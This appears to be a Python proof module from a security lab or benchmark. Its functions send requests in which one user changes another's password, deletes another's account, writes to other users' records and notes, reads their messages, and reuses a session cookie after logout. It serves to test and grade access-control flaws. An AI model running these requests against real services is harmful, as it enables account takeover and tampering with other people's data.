"""Exploits of what users may do to each other."""

import json
import secrets

from lab.client import Lab


async def _newcomer(lab: Lab) -> dict[str, str]:
    account = {"username": f"robin-{secrets.token_hex(4)}", "password": f"word-{secrets.token_hex(6)}"}
    await lab.send("POST", "/api/register", json=account)
    return account


async def _signs_in(lab: Lab, account: dict[str, str]) -> bool:
    return (await lab.send("POST", "/api/login", json=account)).status == 200


async def _password(lab: Lab) -> bool:
    account = await _newcomer(lab) | {"password": "chosen-by-alice"}
    await lab.send("PUT", "/api/secret-word", user="alice", json=account)
    return await _signs_in(lab, account)


async def _delete(lab: Lab) -> bool:
    account = await _newcomer(lab)
    await lab.send("DELETE", f"/api/customers/{account['username']}", user="alice")
    return not await _signs_in(lab, account)


async def _card(lab: Lab) -> bool:
    mark = secrets.token_hex(6)
    await lab.send("PATCH", "/api/members/bob", user="alice", json={"city": mark})
    return mark in (await lab.send("GET", "/api/members/bob", user="bob")).text


async def _note(lab: Lab) -> bool:
    mark = secrets.token_hex(6)
    await lab.send("PUT", "/api/notes/502", user="alice", json={"text": mark})
    return mark in (await lab.send("GET", "/api/notes/502", user="bob")).text


async def _message(lab: Lab) -> bool:
    mark = secrets.token_hex(6)
    number = json.loads((await lab.send("POST", "/api/messages", user="bob", json={"text": mark})).text)
    return mark in (await lab.send("GET", f"/api/messages/{number['message']}", user="alice")).text


async def _logout(lab: Lab) -> bool:
    signed_in = await lab.post("/login", username="alice", password="alice-pass-1")  # noqa: S106
    cookie = {"Cookie": f"session={signed_in.cookies['session']}"}
    await lab.send("GET", "/logout", headers=cookie)
    return "Hello alice" in (await lab.send("GET", "/account", headers=cookie)).text


PROOFS = {
    "password-of-others": _password,
    "delete-of-others": _delete,
    "bola-write": _card,
    "bola-object-write": _note,
    "bola-own": _message,
    "logout": _logout,
}
